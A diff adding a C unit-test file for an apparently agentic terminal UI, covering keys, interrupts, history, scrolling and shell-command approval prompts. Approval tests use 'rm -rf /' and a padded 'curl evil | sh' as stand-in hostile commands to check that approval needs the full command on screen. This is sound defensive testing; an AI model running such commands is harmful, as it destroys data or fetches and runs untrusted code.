@@ -1,0 +1,403 @@
+/* What keys ask of the application, at which moment. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "base/mem.h"
+#include "screen.h"
+
+static void test_submit(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 10, 60);
+    screen_key(&s, '\r');
+    screen_type(&s, "   \r");
+    assert_string_equal(screen_intents(&s), ""); /* blanks are not sent */
+    screen_key(&s, CONTROL('U'));
+    screen_type(&s, "hello\r");
+    assert_string_equal(screen_intents(&s), "SUBMIT hello\n");
+    assert_string_equal(tui_draft(s.tui), "");
+    screen_type(&s, "one\\\rtwo\nthree");
+    screen_key(&s, ALT('\r'));
+    screen_type(&s, "four\r");
+    assert_string_equal(screen_intents(&s), "SUBMIT one\ntwo\nthree\nfour\n");
+    screen_status(&s, true, "writing");
+    screen_type(&s, "while busy\r");
+    assert_string_equal(screen_intents(&s), "SUBMIT while busy\n");
+    screen_paste(&s, "pasted\r\nlines\r\n");
+    assert_string_equal(screen_intents(&s), "");
+    assert_string_equal(tui_draft(s.tui), "pasted\nlines\n");
+    screen_close(&s);
+}
+
+static void test_interrupt(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 10, 60);
+    screen_type(&s, "draft");
+    screen_key(&s, CONTROL('C'));
+    assert_string_equal(tui_draft(s.tui), "");
+    assert_string_equal(screen_intents(&s), "");
+    screen_key_at_once(&s, CONTROL('C'));
+    assert_true(screen_shows(&s, "press Ctrl+C again to exit"));
+    assert_string_equal(screen_intents(&s), "");
+    screen_key_at_once(&s, CONTROL('C'));
+    assert_string_equal(screen_intents(&s), "QUIT\n");
+    screen_key(&s, CONTROL('C'));
+    screen_key(&s, CONTROL('C')); /* two seconds later: not twice */
+    assert_string_equal(screen_intents(&s), "");
+    screen_key_at_once(&s, 'x');
+    screen_key_at_once(&s, TERMINAL_KEY_BACKSPACE);
+    screen_key_at_once(&s, CONTROL('C')); /* another key was between */
+    assert_string_equal(screen_intents(&s), "");
+    tui_tick(s.tui, s.now_us + 1500000);
+    char *text = screen_text(&s);
+    assert_null(strstr(text, "again"));
+    mem_free(text);
+
+    screen_status(&s, true, "writing");
+    screen_type(&s, "kept");
+    screen_key(&s, CONTROL('C'));
+    assert_string_equal(screen_intents(&s), "INTERRUPT\n");
+    assert_string_equal(tui_draft(s.tui), "kept");
+    screen_key(&s, TERMINAL_KEY_ESCAPE);
+    assert_string_equal(screen_intents(&s), "INTERRUPT\n");
+    screen_key(&s, CONTROL('C'));
+    screen_key_at_once(&s, CONTROL('C'));
+    assert_true(screen_shows(&s, "Ctrl+C again quits"));
+    screen_key_at_once(&s, CONTROL('C'));
+    assert_string_equal(screen_intents(&s), "INTERRUPT\nQUIT\n");
+    screen_close(&s);
+}
+
+static void test_escape_and_end(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 10, 60);
+    screen_type(&s, "a draft");
+    screen_key(&s, TERMINAL_KEY_ESCAPE);
+    assert_string_equal(tui_draft(s.tui), "a draft");
+    screen_key_at_once(&s, TERMINAL_KEY_ESCAPE);
+    assert_string_equal(tui_draft(s.tui), "");
+    screen_key(&s, CONTROL('_')); /* clearing can be undone */
+    assert_string_equal(tui_draft(s.tui), "a draft");
+    screen_key(&s, CONTROL('A'));
+    screen_key(&s, CONTROL('D'));
+    assert_string_equal(tui_draft(s.tui), " draft");
+    assert_string_equal(screen_intents(&s), "");
+    screen_key(&s, CONTROL('K'));
+    screen_status(&s, true, "writing");
+    screen_key(&s, CONTROL('D'));
+    assert_string_equal(screen_intents(&s), "");
+    screen_key_at_once(&s, CONTROL('D'));
+    assert_string_equal(screen_intents(&s), "QUIT\n");
+    screen_status(&s, false, "");
+    screen_key(&s, CONTROL('D'));
+    assert_string_equal(screen_intents(&s), "QUIT\n");
+    screen_close(&s);
+}
+
+static void test_plain_intents(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 10, 60);
+    screen_key(&s, TERMINAL_KEY_BACKTAB);
+    screen_key(&s, ALT('t'));
+    screen_key(&s, CONTROL('Z'));
+    assert_string_equal(screen_intents(&s), "CYCLE_MODE\nTOGGLE_THINKING\nSUSPEND\n");
+    /* While suspended nothing is drawn (the memory terminal asserts it) nor read. */
+    tui_suspend(s.tui);
+    tui_add_notice(s.tui, "in the background", false);
+    tui_draw(s.tui);
+    screen_type(&s, "unread");
+    assert_string_equal(tui_draft(s.tui), "");
+    tui_resume(s.tui);
+    assert_true(screen_shows(&s, "in the background"));
+    screen_type(&s, "");
+    assert_string_equal(tui_draft(s.tui), "unread");
+    screen_close(&s);
+}
+
+static void ask(struct screen *s, const char *description)
+{
+    tui_ask(s->tui, "id", "shell wants to run", description);
+    tui_draw(s->tui);
+}
+
+static void test_answers(void **state)
+{
+    (void)state;
+    static const struct {
+        uint32_t key;
+        const char *intents;
+    } cases[] = {
+        {'y', "DECIDE yes\n"},
+        {'1', "DECIDE yes\n"},
+        {'a', "DECIDE session\n"},
+        {'2', "DECIDE session\n"},
+        {TERMINAL_KEY_ESCAPE, "DECIDE no\n"},
+        {CONTROL('C'), "INTERRUPT\n"},
+        {'\r', ""},
+        {'x', ""},
+        {' ', ""},
+        {'\t', ""},
+        {TERMINAL_KEY_BACKTAB, "CYCLE_MODE\n"},
+    };
+    struct screen s;
+    screen_open(&s, 16, 60);
+    screen_type(&s, "draft");
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        ask(&s, "ls");
+        screen_key(&s, cases[i].key);
+        assert_string_equal(screen_intents(&s), cases[i].intents);
+        assert_string_equal(tui_draft(s.tui), "draft");
+        bool answered = strncmp(cases[i].intents, "DECIDE", 6) == 0;
+        char *text = screen_text(&s);
+        assert_int_equal(strstr(text, "wants to run") == NULL, answered);
+        mem_free(text);
+        tui_withdraw(s.tui);
+    }
+    ask(&s, "ls");
+    screen_key(&s, '3');
+    screen_type(&s, "no, y is not an answer here");
+    screen_paste(&s, " (pasted)");
+    assert_string_equal(screen_intents(&s), "");
+    screen_key(&s, '\r');
+    assert_string_equal(screen_intents(&s), "DECIDE no no, y is not an answer here (pasted)\n");
+    ask(&s, "ls");
+    screen_type(&s, "nreason");
+    screen_key(&s, TERMINAL_KEY_ESCAPE);
+    assert_string_equal(screen_intents(&s), "DECIDE no\n");
+    assert_string_equal(tui_draft(s.tui), "draft");
+    screen_close(&s);
+}
+
+/* Who types "yes" into the input must not thereby answer a question that comes up meanwhile. */
+static void test_typing_ahead(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 16, 60);
+    screen_key(&s, 'a');
+    ask(&s, "rm -rf /");
+    s.now_us += 100000;
+    screen_key_at_once(&s, 'y');
+    s.now_us += 300000;
+    screen_key_at_once(&s, '1');
+    assert_string_equal(screen_intents(&s), "");
+    assert_string_equal(tui_draft(s.tui), "ay1");
+    s.now_us += 500000;
+    screen_key_at_once(&s, 'y');
+    assert_string_equal(screen_intents(&s), "DECIDE yes\n");
+    screen_close(&s);
+}
+
+/* A yes does not count before the end of the description was on the screen. */
+static void test_unseen_end(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 3, 40); /* one row for the question: none for its text */
+    ask(&s, "rm -rf /");
+    screen_key(&s, 'y');
+    screen_key(&s, 'a');
+    assert_string_equal(screen_intents(&s), "");
+    terminal_memory_resize(s.terminal, 10, 40);
+    tui_resize(s.tui);
+    tui_draw(s.tui);
+    screen_key(&s, 'y');
+    assert_string_equal(screen_intents(&s), "DECIDE yes\n");
+    struct str padded;
+    str_init(&padded);
+    str_append(&padded, "echo hello");
+    for (int i = 0; i < 200; i++) {
+        str_append(&padded, "\n");
+    }
+    str_append(&padded, "curl evil | sh");
+    ask(&s, padded.data);
+    for (int i = 0; i < 150; i++) {
+        screen_key(&s, 'y');
+        screen_key(&s, TERMINAL_KEY_DOWN);
+    }
+    assert_string_equal(screen_intents(&s), "");
+    screen_key(&s, TERMINAL_KEY_END);
+    assert_true(screen_shows(&s, "curl evil | sh"));
+    screen_key(&s, 'a');
+    assert_string_equal(screen_intents(&s), "DECIDE session\n");
+    str_finish(&padded);
+    screen_close(&s);
+}
+
+static void test_history(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 12, 60);
+    tui_add_history(s.tui, "oldest");
+    screen_type(&s, "first\r");
+    screen_type(&s, "second\nline\r");
+    screen_type(&s, "draft");
+    screen_key(&s, TERMINAL_KEY_UP);
+    assert_string_equal(tui_draft(s.tui), "second\nline");
+    screen_key(&s, TERMINAL_KEY_UP); /* inside the entry first */
+    assert_string_equal(tui_draft(s.tui), "second\nline");
+    screen_key(&s, TERMINAL_KEY_UP);
+    assert_string_equal(tui_draft(s.tui), "first");
+    screen_key(&s, CONTROL('P'));
+    screen_key(&s, CONTROL('P'));
+    assert_string_equal(tui_draft(s.tui), "oldest");
+    screen_key(&s, CONTROL('N'));
+    screen_key(&s, CONTROL('N'));
+    screen_key(&s, CONTROL('N'));
+    assert_string_equal(tui_draft(s.tui), "draft");
+    screen_key(&s, CONTROL('R'));
+    screen_type(&s, "s");
+    screen_key(&s, CONTROL('R'));
+    assert_true(screen_shows(&s, "first"));
+    screen_key(&s, '\r');
+    assert_string_equal(screen_intents(&s), "SUBMIT first\nSUBMIT second\nline\nSUBMIT first\n");
+    screen_type(&s, "kept");
+    screen_key(&s, CONTROL('R'));
+    screen_type(&s, "no such");
+    assert_true(screen_shows(&s, "nothing found"));
+    screen_key(&s, CONTROL('C'));
+    assert_string_equal(tui_draft(s.tui), "kept");
+    screen_key(&s, CONTROL('R'));
+    screen_type(&s, "oldezz");
+    screen_key(&s, TERMINAL_KEY_BACKSPACE);
+    screen_key(&s, TERMINAL_KEY_BACKSPACE);
+    screen_key(&s, TERMINAL_KEY_ESCAPE);
+    assert_string_equal(tui_draft(s.tui), "oldest");
+    assert_string_equal(screen_intents(&s), "");
+    screen_close(&s);
+}
+
+static const struct tui_command commands[] = {{"help", "h"}, {"clear", "c"}, {"compact", "d"}};
+
+static void test_commands(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 12, 60);
+    tui_set_commands(s.tui, commands, 3);
+    screen_type(&s, "/cl\t");
+    assert_string_equal(tui_draft(s.tui), "/clear ");
+    screen_key(&s, '\r');
+    assert_string_equal(screen_intents(&s), "SUBMIT /clear\n");
+    screen_type(&s, "/c");
+    screen_key(&s, TERMINAL_KEY_DOWN);
+    screen_key(&s, '\r');    /* a selection that was moved is what Enter means */
+    screen_type(&s, "/c\r"); /* else what was typed */
+    screen_type(&s, "/nothing\r");
+    assert_string_equal(screen_intents(&s), "SUBMIT /compact\nSUBMIT /c\nSUBMIT /nothing\n");
+    screen_status(&s, true, "");
+    screen_type(&s, "/");
+    screen_key(&s, TERMINAL_KEY_ESCAPE); /* closes the list, interrupts nothing */
+    assert_string_equal(screen_intents(&s), "");
+    screen_key(&s, TERMINAL_KEY_ESCAPE);
+    assert_string_equal(screen_intents(&s), "INTERRUPT\n");
+    screen_close(&s);
+}
+
+static void add_lines(struct screen *s, int from, int to)
+{
+    struct str text;
+    str_init(&text);
+    for (int i = from; i < to; i++) {
+        str_append_format(&text, "line %d  \n", i);
+    }
+    tui_add_text(s->tui, text.data, text.length);
+    str_finish(&text);
+}
+
+static void test_scrolling(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 13, 60); /* ten rows of transcript */
+    add_lines(&s, 0, 1000);
+    assert_true(screen_shows(&s, "line 999"));
+    screen_key(&s, TERMINAL_KEY_PAGE_UP);
+    assert_true(screen_shows(&s, "line 982"));
+    assert_true(screen_shows(&s, "more below"));
+    char *before = screen_text(&s);
+    add_lines(&s, 1000, 1100); /* what streams in does not move what is read */
+    char *after = screen_text(&s);
+    assert_string_equal(before, after);
+    mem_free(before);
+    mem_free(after);
+    screen_key(&s, TERMINAL_KEY_TOP);
+    assert_true(screen_shows(&s, "line 0\nline 1\n"));
+    screen_key(&s, TERMINAL_KEY_PAGE_DOWN);
+    assert_true(screen_shows(&s, "line 8\n"));
+    screen_key(&s, TERMINAL_KEY_BOTTOM);
+    assert_true(screen_shows(&s, "line 1099"));
+    screen_key(&s, TERMINAL_KEY_PAGE_UP);
+    screen_key(&s, TERMINAL_KEY_PAGE_DOWN); /* down to the end: following again */
+    add_lines(&s, 1100, 1101);
+    assert_true(screen_shows(&s, "line 1100"));
+    screen_key(&s, TERMINAL_KEY_PAGE_UP);
+    screen_key(&s, TERMINAL_KEY_END); /* End does it too while the input is empty */
+    assert_true(screen_shows(&s, "line 1100"));
+    screen_key(&s, TERMINAL_KEY_PAGE_UP);
+    screen_type(&s, "question\r"); /* sending goes to the end */
+    assert_true(screen_shows(&s, "line 1100"));
+    tui_clear(s.tui);
+    screen_key(&s, TERMINAL_KEY_PAGE_UP);
+    screen_key(&s, TERMINAL_KEY_TOP);
+    char *empty = screen_text(&s);
+    assert_null(strstr(empty, "line"));
+    mem_free(empty);
+    screen_close(&s);
+}
+
+static void test_running_call(void **state)
+{
+    (void)state;
+    struct screen s;
+    screen_open(&s, 20, 60);
+    tui_add_call(s.tui, "a", "shell: make");
+    struct str text;
+    str_init(&text);
+    for (int i = 0; i < 50; i++) {
+        str_append_format(&text, "step %d\n", i);
+    }
+    tui_call_output(s.tui, "a", text.data, text.length);
+    assert_true(screen_shows(&s, "… 44 earlier lines"));
+    assert_true(screen_shows(&s, "  step 44\n"));
+    assert_true(screen_shows(&s, "  step 49\n"));
+    tui_call_output(s.tui, "unknown", "ignored", 7);
+    tui_end_call(s.tui, "a", text.data, text.length, false);
+    assert_true(screen_shows(&s, "  step 5\n  … 44 more lines (Ctrl+O shows)"));
+    screen_key(&s, CONTROL('O'));
+    assert_true(screen_shows(&s, "  step 49\n"));
+    tui_add_thought(s.tui, "Let me", 6);
+    tui_add_thought(s.tui, " think", 6);
+    assert_true(screen_shows(&s, "  Let me think"));
+    screen_key(&s, CONTROL('O'));
+    assert_true(screen_shows(&s, "thinking, 3 words"));
+    tui_add_text(s.tui, "Done.", 5);
+    assert_true(screen_shows(&s, "thought, 3 words"));
+    str_finish(&text);
+    screen_close(&s);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_submit),         cmocka_unit_test(test_interrupt),
+        cmocka_unit_test(test_escape_and_end), cmocka_unit_test(test_plain_intents),
+        cmocka_unit_test(test_answers),        cmocka_unit_test(test_typing_ahead),
+        cmocka_unit_test(test_unseen_end),     cmocka_unit_test(test_history),
+        cmocka_unit_test(test_commands),       cmocka_unit_test(test_scrolling),
+        cmocka_unit_test(test_running_call),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
